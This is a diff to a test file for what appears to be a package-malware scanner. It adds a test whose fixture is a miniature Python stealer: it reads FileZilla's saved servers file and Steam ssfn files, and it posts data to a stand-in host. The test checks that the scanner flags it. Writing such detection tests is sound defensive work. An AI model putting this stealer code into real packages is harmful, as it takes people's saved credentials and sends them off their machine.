@@ -227,3 +227,17 @@ test('a 99.x version with a call out on import is a dependency-confusion callbac
   );
   assert.ok(!calendar.reasons.some((r) => r.startsWith('a version shaped to outrank')));
 });
+
+test("other programs' saved logins (FileZilla's servers, Steam's ssfn files) read and data sent are a stealer", async () => {
+  const report = await analyse({
+    'tool-1.0/tool/grab.py':
+      'import os, glob\ndef fz():\n    return open(os.path.join(os.getenv("APPDATA"), "FileZilla", "recentservers.xml")).read()\ndef steam():\n    return glob.glob("C:\\\\Steam\\\\ssfn*")\n',
+    'tool-1.0/tool/net.py':
+      'import requests\ndef push(data):\n    requests.post("https://sync.example/in", data=data)\n',
+  });
+  assert.ok(
+    report.reasons.some((r) => r.startsWith('reads saved logins of other programs')),
+    report.reasons.join(' | '),
+  );
+  assert.ok(atLeast(report.risk, 'high'));
+});
